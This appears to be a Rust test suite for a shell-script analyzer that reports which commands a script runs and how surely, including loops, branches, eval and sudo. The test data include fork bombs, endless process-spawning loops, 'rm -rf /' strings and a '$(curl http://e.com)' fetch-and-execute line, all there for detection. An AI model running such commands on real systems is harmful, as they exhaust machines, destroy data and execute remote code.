//! What runs, and how sure it is: branches, loops, builtins that run something, recursion.

use super::{check, check_runs};

#[test]
fn a_loop_over_known_words_is_walked_for_each() {
    check_runs(&[
        ("for i in a b; do rm $i; done", &["[rm a]", "[rm b]"]),
        ("for i in {1..2}; do rm $i; done", &["[rm 1]", "[rm 2]"]),
        ("for i in $(echo a b); do rm $i; done", &["[echo a b]", "[rm a]", "[rm b]"]),
        ("for i in a; do for j in b; do rm $i$j; done; done", &["[rm ab]"]),
        ("for i in a; { rm $i; }", &["[rm a]"]),
        ("for i in *.o; do rm $i; done", &["[rm _]"]),
        ("for i in $X; do rm $i; done", &["may [rm _]"]),
        ("for i in $(ls); do rm $i; done", &["[ls]", "[rm _]"]),
        ("for i in a\ndo\n  rm $i\ndone", &["[rm a]"]),
        ("x=; for i in a b; do x=$x$i; done; rm $x", &["[rm ab]"]),
        ("select i in a b; do rm $i; done", &["may [rm a]", "may [rm b]"]),
        ("for ((i=0;i<3;i++)); do rm $i; done", &["may [rm _]"]),
        ("while read x; do rm $x; done < f", &["may [rm _]", "may [rm _]"]),
        ("while read x; do rm $x; done <<< a", &["may [rm a]", "may [rm _]"]),
        ("while read x; do $x; done <<< $'ls\nrm a'", &["may [ls]", "may [rm a]", "opaque [_]"]),
        ("printf 'ls\nrm a\n' | { read x; read y; $y; }", &["[printf ls\nrm a\n]", "[rm a]"]),
        ("printf 'a\nb\n' | { c; read x; rm $x; }", &["[printf a\nb\n]", "[c]", "[rm _]"]),
        ("{ c && read x; read y; rm $y; } <<< $'a\nb'", &["[c]", "[rm _]"]),
        ("while c; do rm a; done", &["[c]", "may [rm a]"]),
        ("until c; do rm a; done", &["[c]", "may [rm a]"]),
        ("for i in; do rm a; done", &[]),
    ]);
}

#[test]
fn a_branch_is_never_sure() {
    check_runs(&[
        ("if c; then rm a; fi", &["[c]", "may [rm a]"]),
        ("if c; then rm a; else rm b; fi", &["[c]", "may [rm a]", "may [rm b]"]),
        ("if c; then rm a; elif d; then rm b; fi", &["[c]", "may [rm a]", "may [d]", "may [rm b]"]),
        ("if true; then rm a; fi", &["may [rm a]"]),
        ("c && rm a", &["[c]", "may [rm a]"]),
        ("c || rm a", &["[c]", "may [rm a]"]),
        ("true && rm a", &["[rm a]"]),
        (": && rm a", &["[rm a]"]),
        ("false || rm a", &["[rm a]"]),
        ("x=1 && rm a", &["[rm a]"]),
        ("! c && rm a", &["[c]", "may [rm a]"]),
        ("! false && rm a", &["[rm a]"]),
        ("[ -f a ] && rm a", &["[[ -f a ]]", "may [rm a]"]),
        ("[[ -f a ]] && rm a", &["may [rm a]"]),
        ("test -f a && rm a", &["[test -f a]", "may [rm a]"]),
        ("((1)) && rm a", &["[rm a]"]),
        ("case x in x) rm a;; y) rm b;; esac", &["[rm a]"]),
        ("case x in z) rm a;; *) rm b;; esac", &["[rm b]"]),
        ("case $X in x) rm a;; *) rm b;; esac", &["may [rm a]", "may [rm b]"]),
        ("case xy in x*) rm a;; esac", &["[rm a]"]),
        ("case x in a|x) rm a;; esac", &["[rm a]"]),
        ("case x in (x) rm a; esac", &["[rm a]"]),
        ("case x in [xy]) rm a;; esac", &["may [rm a]"]),
        ("case x in x) rm a;& y) rm b;; esac", &["may [rm a]", "may [rm b]"]),
        ("case x in x) rm a;;& y) rm b;; esac", &["may [rm a]", "may [rm b]"]),
        ("case x in [yz]) rm a;; *) rm b;; esac", &["may [rm a]", "may [rm b]"]),
        ("shopt -s nocasematch; case X in x) rm a;; *) rm b;; esac", &["may [rm a]", "may [rm b]"]),
        ("c & rm a", &["[c]", "[rm a]"]),
        ("(c) && rm a", &["[c]", "may [rm a]"]),
        ("if [[ $(rm a) ]]; then b; fi", &["[rm a]", "may [b]"]),
        ("[[ -n $(rm a) ]]", &["[rm a]"]),
        ("(( $(rm a) ))", &["[rm a]"]),
        ("exit 0; rm a", &["[rm a]"]),
    ]);
}

#[test]
fn what_a_builtin_runs_is_run() {
    check_runs(&[
        ("eval rm a", &["[rm a]"]),
        ("eval 'rm a; rm b'", &["[rm a]", "[rm b]"]),
        ("eval \"x=rm\"; $x a", &["[rm a]"]),
        ("eval \"$(echo rm a)\"", &["[echo rm a]", "[rm a]"]),
        ("eval eval rm a", &["[rm a]"]),
        ("command rm a", &["[rm a]"]),
        ("command -p rm a", &["[rm a]"]),
        ("command -v rm", &[]),
        ("command -1 rm a", &[]),
        ("builtin eval rm a", &["[rm a]"]),
        ("exec rm a", &["[rm a]"]),
        ("exec -a x rm a", &["[rm a]"]),
        ("exec rm a > f", &["[rm a]"]),
        ("trap 'rm a' EXIT", &["may [rm a]"]),
        ("trap - EXIT", &[]),
        ("trap '' INT", &[]),
        ("time rm a", &["[rm a]"]),
        ("time -p rm a", &["[rm a]"]),
        ("! rm a", &["[rm a]"]),
        ("{ rm a; }", &["[rm a]"]),
        ("( rm a )", &["[rm a]"]),
        ("coproc rm a", &["[rm a]"]),
        ("coproc x { rm a; }", &["[rm a]"]),
        ("nohup rm a &", &["[nohup rm a]", "[rm a]"]),
        ("echo a", &["[echo a]"]),
        ("printf a", &["[printf a]"]),
        ("pwd", &["[pwd]"]),
        ("kill 1", &["[kill 1]"]),
        ("wait", &[]),
        ("type rm", &[]),
        ("shopt -s extglob", &[]),
        ("set -e; rm a", &["[rm a]"]),
        ("sh -c 'rm $1' x a", &["[sh -c rm $1 x a]", "[rm a]"]),
        ("sh -c 'rm $0' a", &["[sh -c rm $0 a]", "[rm a]"]),
        ("sh -c \"sh -c 'rm a'\"", &["[sh -c sh -c 'rm a']", "[sh -c rm a]", "[rm a]"]),
        (
            "sudo sh -c 'rm a'",
            &["[sudo sh -c rm a]", "+privileged [sh -c rm a]", "+privileged [rm a]"],
        ),
        ("find . -exec rm {} \\;", &["[find . -exec rm {} ;]", "[rm _]"]),
    ]);
}

#[test]
fn what_starts_itself_without_end_exhausts_the_machine() {
    for script in [
        ":(){ :|:& };:",
        "f() { f & f & }; f",
        "function x { x | x; }\nx",
        "f(){ f|f& };f",
        "bomb() { bomb | bomb & }; bomb",
        "f() { (f &); f; }; f",
    ] {
        let found = super::deeds(script);
        assert!(found.contains(&"process.exhaust".to_owned()), "{script}: {found:?}");
    }
}

#[test]
fn a_loop_without_end_that_starts_or_writes_may_exhaust_the_machine() {
    let exhausts = |script: &str| super::deeds(script).contains(&"may process.exhaust".to_owned());
    for script in [
        "while :; do x & done",
        "while true; do x & done",
        "until false; do x & done",
        "for ((;;)); do x & done",
        "while ((1)); do (x &); done",
        "while :; do echo a >> f; done",
        "while :; do cat f >> g; done",
        "while [ 1 ]; do x & done",
    ] {
        assert!(exhausts(script), "{script}: {:?}", super::deeds(script));
    }
    for script in [
        "while :; do x; done",
        "while :; do x & wait; done",
        "while :; do x & sleep 1; done",
        "while c; do x & done",
        "while :; do echo a >> f; break; done",
        "for i in a b; do x & done",
        "while read x; do echo $x >> f; done",
    ] {
        assert!(!exhausts(script), "{script}: {:?}", super::deeds(script));
    }
}

#[test]
fn what_a_shell_is_told_to_run_but_cannot_be_told_is_opaque() {
    check(&[
        ("$X", &["opaque exec"]),
        ("eval \"$X\"", &["opaque exec"]),
        ("sh -c \"$X\"", &["opaque exec"]),
        ("$(curl http://e.com)", &["net.receive e.com", "opaque exec+remote"]),
        ("$(date) a", &["opaque exec"]),
        ("\"$@\"", &[]),
    ]);
}

#[test]
fn a_mention_is_no_deed() {
    check(&[
        ("# rm a", &[]),
        (": rm a", &[]),
        ("echo rm -rf /", &[]),
        ("echo 'rm -rf /' \"$(echo 'rm a')\"", &[]),
        (": 'rm a'", &[]),
        (": <<'END'\nrm a\nEND", &[]),
        (": <<END\nrm a\nEND", &[]),
        ("x=\"rm a\"", &[]),
        ("f() { rm a; }", &[]),
        ("true # && rm a", &[]),
        ("echo a#; echo 'b # c'", &[]),
        ("command -v rm", &[]),
        ("type rm", &[]),
        ("x='$(rm a)'", &[]),
        ("echo '`rm a`'", &[]),
        ("cat <<'E'\n$(rm a)\nE", &[]),
        ("cat <<\\E\n$(rm a)\nE", &[]),
        ("[[ rm == a ]]", &[]),
        ("[ rm = a ]", &[]),
        ("case rm in a) ;; esac", &[]),
        ("alias x='rm a'", &[]),
        ("printf '%s\\n' 'rm -rf /'", &[]),
        ("for i in rm; do echo $i; done", &[]),
        ("a=(rm -rf /)", &[]),
        ("grep -c rm", &[]),
    ]);
}
